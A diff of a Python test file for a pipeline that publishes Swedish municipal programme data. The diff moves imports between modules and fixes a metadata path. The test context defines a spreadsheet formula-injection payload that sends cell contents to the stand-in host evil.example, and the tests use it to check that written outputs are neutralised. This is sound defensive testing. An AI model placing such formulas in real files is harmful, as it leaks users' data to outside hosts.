@@ -8,7 +8,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from inventory import changes, outputs, stats, swedish
+from publish import changes, outputs, stats, swedish
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Näringslivsprogram")'
 
@@ -160,9 +160,9 @@ def test_write_outputs_writes_every_file(tmp_path: Path) -> None:
 
 
 def test_datasette_metadata_describes_every_store_table_and_column() -> None:
-    from inventory import store
+    from base import store
 
-    path = Path(outputs.__file__).parent / "data" / "datasette-metadata.json"
+    path = Path(outputs.__file__).parent.parent / "inventory" / "data" / "datasette-metadata.json"
     tables = json.loads(path.read_text(encoding="utf-8"))["databases"]["kommunprogram"]["tables"]
     for table in store.metadata.sorted_tables:
         assert tables.get(table.name, {}).get("description"), f"no description for table {table.name}"
@@ -175,7 +175,8 @@ def test_datasette_metadata_describes_every_store_table_and_column() -> None:
 
 def pipeline_tables() -> dict[str, pd.DataFrame]:
     """The tables of write_outputs with the columns the pipeline really writes (stats_stage's steps)."""
-    from inventory import overrides, pipeline
+    from inventory import pipeline
+    from publish import overrides
 
     decision = {"sha256": "a" * 64, "url": HOSTILE, "role": "program", "picked": True, "draft": False}
     row = {"code": "0114", "name": "Upplands Väsby", "status": "program_found", "program_title": HOSTILE,
@@ -224,7 +225,7 @@ def test_glossary_marks_unexplained_columns_and_is_neutralised(tmp_path: Path) -
 
 
 def test_every_status_and_override_field_has_an_explanation() -> None:
-    from inventory import overrides
+    from publish import overrides
 
     assert set(outputs.STATUS_EXPLANATIONS) == set(stats.STATUS_NAMES)
     missing = sorted({*overrides.FIELDS, *overrides.PROVENANCE_COLUMNS} - set(outputs.COLUMNS))
